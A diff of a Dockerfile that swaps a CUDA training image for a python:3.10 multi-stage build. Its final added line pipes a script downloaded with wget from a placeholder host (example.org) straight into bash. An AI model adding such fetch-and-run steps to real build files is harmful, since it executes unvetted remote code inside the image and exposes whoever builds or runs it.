@@ -1,6 +1,10 @@
-FROM nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04
-SHELL ["/bin/bash", "-o", "pipefail", "-c"]
-RUN apt-get update && apt-get install -y ffmpeg && rm -rf /var/lib/apt/lists/*
-RUN python -m pip install --no-cache-dir torch==2.3.0
-COPY . /workspace/
-CMD python train.py --config configs/base.yaml
+FROM python:3.10 AS builder
+RUN apt-get update && apt-get install -y --no-install-recommends git && rm -rf /var/lib/apt/lists/*
+WORKDIR /src
+COPY . /src
+RUN make -j
+FROM builder
+COPY --from=builder /src/out /opt/out
+WORKDIR /root/project
+COPY . /root/app/
+RUN wget -qO- https://example.org/setup.sh | bash
